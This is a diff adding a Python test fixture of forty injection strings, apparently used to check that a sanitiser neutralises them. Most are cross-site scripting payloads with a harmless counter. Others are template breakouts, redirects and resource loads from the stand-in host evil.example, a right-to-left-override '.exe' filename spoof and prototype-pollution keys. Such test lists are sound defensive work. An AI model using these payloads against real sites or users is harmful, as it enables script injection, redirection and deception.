@@ -1,0 +1,48 @@
+"""Forty texts that try to become something else: script, markup, a template, a request, another name."""
+
+from __future__ import annotations
+
+RAN = "window.ran=(window.ran||0)+1"
+PAYLOADS = (
+    f"<script>{RAN}</script>",
+    f"</script><script>{RAN}</script>",
+    f"</SCRIPT ><sCrIpT>{RAN}</sCrIpT>",
+    f"<img src=x onerror={RAN}>",
+    f'"><img src=x onerror="{RAN}">',
+    f"'><img src=x onerror='{RAN}'>",
+    f"<svg onload={RAN}>",
+    f"<svg><script>{RAN}</script></svg>",
+    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
+    f"<iframe src=javascript:{RAN}></iframe>",
+    f"<a href=javascript:{RAN}>press</a>",
+    f"<details open ontoggle={RAN}>x</details>",
+    f"<body onload={RAN}>",
+    f"<video src=x onerror={RAN}></video>",
+    f"<input autofocus onfocus={RAN}>",
+    f"<math><mtext><img src=x onerror={RAN}></mtext></math>",
+    f"</title><script>{RAN}</script>",
+    f"</style><script>{RAN}</script>",
+    f"</noscript><img src=x onerror={RAN}>",
+    f"</textarea><img src=x onerror={RAN}>",
+    f"--><script>{RAN}</script>",
+    f"]]><script>{RAN}</script>",
+    f"${{{RAN}}}",
+    f"`;{RAN};`",
+    f"${{`${{{RAN}}}`}}",
+    f"{{{{{RAN}}}}}",
+    f"{{% print({RAN}) %}}",
+    f"';{RAN};'",
+    f'";{RAN};"',
+    f"\\';{RAN};//",
+    f"\u2028{RAN}\u2029",
+    f"&lt;img src=x onerror={RAN}&gt;",
+    f"&#60;img src=x onerror={RAN}&#62;",
+    f"\\u003cimg src=x onerror={RAN}\\u003e",
+    "<link rel=stylesheet href=http://evil.example/a.css>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "<base href=http://evil.example/><img src=a.png>",
+    "background:url(http://evil.example/b.png)",
+    "safe\u202e>fdp.exe\u2066\u200f",
+    "__proto__ constructor toString\x00\x07",
+)
+assert len(PAYLOADS) == 40
